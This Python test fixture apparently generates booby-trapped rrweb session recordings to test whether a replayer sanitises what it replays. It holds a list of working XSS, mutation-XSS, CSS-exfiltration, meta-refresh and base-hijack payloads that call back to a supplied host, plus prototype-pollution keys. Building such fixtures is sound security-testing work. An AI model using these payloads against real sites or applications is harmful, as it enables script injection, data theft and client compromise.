"""Recordings written to bite whoever replays them, each as the page it pretends to be a recording of."""

from html.parser import HTMLParser
from typing import Any

VOID = {"img", "meta", "base", "link", "input", "br", "embed", "source"}
BITE = "top.bitten=[...(top.bitten||[]),'{name}'];fetch('{home}/{name}')"

PAGES: dict[str, str] = {
    "script": "<script>{bite}</script>",
    "script-src": "<script src='{home}/script-src'></script>",
    "script-module": "<script type=module>{bite}</script>",
    "onerror": "<img src=x onerror=\"{bite}\">",
    "onload": "<svg onload=\"{bite}\"></svg>",
    "onfocus": "<input autofocus onfocus=\"{bite}\">",
    "ontoggle": "<details open ontoggle=\"{bite}\"><summary>x</summary></details>",
    "animation": "<style>@keyframes k{{from{{color:red}}to{{color:blue}}}}</style><p style='animation:k 1s' onanimationstart=\"{bite}\">x</p>",
    "javascript-link": "<a id=trap href=\"javascript:{bite}\">x</a>",
    "javascript-frame": "<iframe src=\"javascript:{bite}\"></iframe>",
    "svg-script": "<svg><script>{bite}</script></svg>",
    "svg-animate": "<svg><a id=trap><animate attributeName=href values=\"javascript:{bite}\"/><text x=20 y=20>x</text></a></svg>",
    "svg-use": "<svg><image href='{home}/svg-use'/></svg>",
    "srcdoc": "<iframe srcdoc=\"<script>{bite}</script><img src={home}/srcdoc>\"></iframe>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url={home}/meta-refresh'>",
    "css-import": "<style>@import url({home}/css-import);</style>",
    "css-exfiltration": "<style>input[value^=s]{{background:url({home}/css-exfiltration)}}</style><input value=secret>",
    "css-font": "<style>@font-face{{font-family:f;src:url({home}/css-font)}}p{{font-family:f}}</style><p>x</p>",
    "base": "<base href='{home}/'><img src='base'>",
    "form": "<form action='{home}/form' method=post><input name=a value=b><button id=trap>x</button></form>",
    "image": "<img src='{home}/image'>",
    "picture": "<picture><source srcset='{home}/picture'><img src=x></picture>",
    "object": "<object data='{home}/object'></object>",
    "embed": "<embed src='{home}/embed'>",
    "video": "<video src='{home}/video' poster='{home}/poster' autoplay></video>",
    "stylesheet": "<link rel=stylesheet href='{home}/stylesheet'>",
    "prefetch": "<link rel=prefetch href='{home}/prefetch'>",
    "frame": "<iframe src='{home}/frame'></iframe>",
    "mxss": "<noscript><p title=\"</noscript><img src=x onerror={bite}>\"></p></noscript>",
    "mxss-math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={bite}&gt;\"></mglyph></table></mtext></math>",
    "template": "<template><img src=x onerror=\"{bite}\"></template>",
    "custom-element": "<x-trap onclick=\"{bite}\" is=x-trap>x</x-trap>",
}
HARMLESS_ALONE = {"svg-animate", "mxss", "mxss-math", "template", "custom-element", "javascript-frame"}
"""These bite only a program that writes markup of them anew, so a plain browser is no proof."""


def page_of(name: str, home: str) -> str:
    """The page as HTML."""
    bite = BITE.format(name=name, home=home)
    return PAGES[name].format(bite=bite.replace('"', "&quot;") if 'onerror="' in PAGES[name] else bite, home=home)


class _Nodes(HTMLParser):
    """HTML to the nodes that rrweb would have recorded."""

    def __init__(self, first_id: int) -> None:
        super().__init__(convert_charrefs=True)
        self.next_id = first_id
        self.root: dict[str, Any] = {"childNodes": []}
        self.open = [self.root]

    def _add(self, node: dict[str, Any]) -> dict[str, Any]:
        node["id"] = self.next_id
        self.next_id += 1
        self.open[-1]["childNodes"].append(node)
        return node

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        is_svg = tag == "svg" or any(node.get("isSVG") for node in self.open)
        node = self._add({"type": 2, "tagName": tag, "attributes": {k: v or "" for k, v in attrs}, "childNodes": []})
        if is_svg:
            node["isSVG"] = True
        if tag not in VOID:
            self.open.append(node)

    def handle_endtag(self, tag: str) -> None:
        if len(self.open) > 1 and tag not in VOID:
            self.open.pop()

    def handle_data(self, data: str) -> None:
        is_style = self.open[-1].get("tagName") == "style"
        self._add({"type": 3, "textContent": data, "isStyle": is_style})


def nodes_of(html: str, first_id: int) -> list[dict[str, Any]]:
    """The snippet's nodes, numbered from ``first_id``."""
    parser = _Nodes(first_id)
    parser.feed(html)
    parser.close()
    found: list[dict[str, Any]] = parser.root["childNodes"]
    return found


def _snapshot(body: list[dict[str, Any]], at_ms: int) -> list[dict[str, Any]]:
    def element(tag: str, node_id: int, children: list[Any]) -> dict[str, Any]:
        return {"type": 2, "tagName": tag, "attributes": {}, "childNodes": children, "id": node_id}

    html = element("html", 3, [element("head", 4, []), element("body", 5, body)])
    document = {"type": 0, "childNodes": [{"type": 1, "name": "html", "publicId": "", "systemId": "", "id": 2}, html], "id": 1}
    return [
        {"type": 4, "data": {"href": "https://shop.example/", "width": 800, "height": 600}, "timestamp": at_ms},
        {"type": 2, "data": {"node": document, "initialOffset": {"left": 0, "top": 0}}, "timestamp": at_ms + 1},
    ]


STEP_MS = 200
SEAL = "The whole of it was played."


def recording(home: str, start_ms: int) -> list[dict[str, Any]]:
    """Each page twice: as it was found, and as it was added later; then a page that says it is over."""
    events: list[dict[str, Any]] = []
    at_ms = start_ms
    for name in PAGES:
        body = nodes_of(page_of(name, home), 10)
        events += _snapshot(body, at_ms)
        events += _snapshot([], at_ms + STEP_MS)
        added = nodes_of(page_of(name, home), 100)
        adds = [{"parentId": 5, "nextId": None, "node": node} for node in added]
        change = {"source": 0, "adds": adds, "removes": [], "texts": [], "attributes": []}
        events.append({"type": 3, "data": change, "timestamp": at_ms + STEP_MS + 50})
        turned = [{"id": 100, "attributes": {"onclick": "top.bitten=1", "src": f"{home}/turned", "href": f"{home}/turned", "srcdoc": f"<img src={home}/turned>"}}]
        change = {"source": 0, "adds": [], "removes": [], "texts": [], "attributes": turned}
        events.append({"type": 3, "data": change, "timestamp": at_ms + STEP_MS + 100})
        at_ms += 2 * STEP_MS
    events += _poison(at_ms)
    return [*events, *_snapshot([{"type": 3, "textContent": SEAL, "id": 10}], at_ms + STEP_MS), {"type": 5, "data": {"tag": "end", "payload": {}}, "timestamp": at_ms + 2 * STEP_MS}]


def _poison(at_ms: int) -> list[dict[str, Any]]:
    """Keys that reach for ``Object.prototype``."""
    bad: dict[str, Any] = {"__proto__": {"bitten": 1}, "constructor": {"prototype": {"bitten": 1}}}
    return [
        {"type": 3, "data": {"source": 0, "adds": [], "removes": [], "texts": [], "attributes": [{"id": 5, "attributes": {**bad, "style": bad}}]}, "timestamp": at_ms},
        {"type": 5, "data": {"tag": "__proto__", "payload": bad}, "timestamp": at_ms + 1, **bad},
    ]
